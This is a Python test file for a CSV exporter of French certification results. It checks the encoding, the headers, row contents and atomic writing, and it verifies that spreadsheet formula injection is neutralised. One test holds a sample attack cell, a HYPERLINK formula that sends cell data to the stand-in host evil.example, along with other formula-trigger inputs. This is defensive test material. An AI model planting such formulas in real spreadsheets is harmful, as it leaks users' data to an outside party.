"""The results CSV: ``;``, UTF-8 with BOM, French headers, no formula injection (RULES §10)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from pixdesk.documents.results_csv import (
    ResultLine,
    neutralise_formula,
    render_results_csv,
    write_results_csv,
)
from pixdesk.domain.referential import COMPETENCE_CODES
from tests.documents import samples

HEADERS = [
    "Numéro de certification",
    "Prénom",
    "Nom",
    "Date de naissance",
    "Lieu de naissance",
    "Identifiant externe",
    "Statut",
    "Nombre de Pix",
    *COMPETENCE_CODES,
    "Commentaire jury",
    "Session",
    "Centre de certification",
    "Date de passage de la certification",
]


def line(**changes: str) -> ResultLine:
    data = replace(samples.certificate_data(), **changes)
    return ResultLine(data, certification_number="1042", session_number="12", external_id="INE1")


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_bom_separator_line_ends_and_headers() -> None:
    data = render_results_csv([line()])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2
    assert b"\n" not in data.replace(b"\r\n", b"")
    header, row = parse(data)
    assert header == HEADERS
    assert len(row) == len(HEADERS)
    assert data.decode("utf-8-sig").splitlines()[0] == ";".join(HEADERS)


def test_a_row_holds_the_certificate_in_french() -> None:
    (_, row) = parse(render_results_csv([line()]))
    values = dict(zip(HEADERS, row, strict=True))
    assert values["Prénom"] == "Élodie"
    assert values["Nom"] == "LEFÈVRE-ÇELIK"
    assert values["Date de naissance"] == "14/03/2009"
    assert values["Statut"] == "Validée"
    assert values["Nombre de Pix"] == "560"
    assert values["1.1"] == "1"
    assert values["3.4"] == "-"  # not certified: kept as is, no apostrophe
    assert values["Centre de certification"] == "Lycée Édouard-Herriot"
    assert values["Date de passage de la certification"] == "30/11/2026"


def test_formula_injection_is_neutralised() -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
    (_, row) = parse(render_results_csv([line(first_name=attack, birth_place="@SUM(1+1)")]))
    values = dict(zip(HEADERS, row, strict=True))
    assert values["Prénom"] == "'" + attack  # the ";" inside is quoted, not a new column
    assert values["Lieu de naissance"] == "'@SUM(1+1)"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "-"),
        ("Jean-Marie", "Jean-Marie"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell: str, expected: str) -> None:
    assert neutralise_formula(cell) == expected


def test_a_rejected_certificate_has_no_levels() -> None:
    rejected = ResultLine(
        samples.certificate_data(status="rejected"), certification_number="1", session_number="12"
    )
    (_, row) = parse(render_results_csv([rejected]))
    values = dict(zip(HEADERS, row, strict=True))
    assert values["Statut"] == "Rejetée"
    assert [values[code] for code in COMPETENCE_CODES] == ["-"] * 16


def test_the_file_is_written_atomically(tmp_path: Path) -> None:
    path = tmp_path / "resultats.csv"
    write_results_csv(path, [line(), line()])
    assert path.read_bytes() == render_results_csv([line(), line()])
    assert [p.name for p in tmp_path.iterdir()] == ["resultats.csv"]
